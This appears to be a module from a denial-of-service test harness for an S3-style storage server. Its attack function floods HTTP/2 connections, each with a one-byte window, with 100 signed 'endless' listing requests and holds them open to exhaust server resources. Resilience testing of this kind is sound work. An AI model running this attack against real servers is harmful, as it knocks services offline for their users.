"""Connections of HTTP/2 with a hundred lists without an end each, and windows of a byte."""

import time

import wire

S3 = True


def attack(victim):
    held = []
    for _ in range(4 * victim.scale):
        connection = victim.http2(window=1)
        for number in range(100):
            target = f"/good/?list-type=2&prefix=endless{number}"
            connection.send(connection.request(target, victim.signed("GET", target))[1])
        held.append(connection)
    time.sleep(0.5)
    victim.begun()
    wire.wait_for_the_end()
